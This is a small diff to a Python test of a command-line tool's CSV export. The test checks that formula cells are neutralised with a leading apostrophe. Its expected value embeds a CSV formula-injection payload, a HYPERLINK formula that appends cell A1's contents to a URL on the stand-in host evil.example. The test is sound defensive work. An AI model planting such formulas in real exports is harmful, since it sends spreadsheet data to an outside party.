@@ -218,7 +218,7 @@ def test_filter_csv_neutralises_each_formula_cell_once(cli) -> None:
     assert other["summary"] == "Safe = text"
     export = cli("export", "-f", "csv", "-o", "-", "--kb", FORMULAS).stdout
     row = next(csv.DictReader(io.StringIO(export)))
-    assert row["actor_name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    assert row["actor_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
     assert row["issue_name"] == "'-land"
 
 
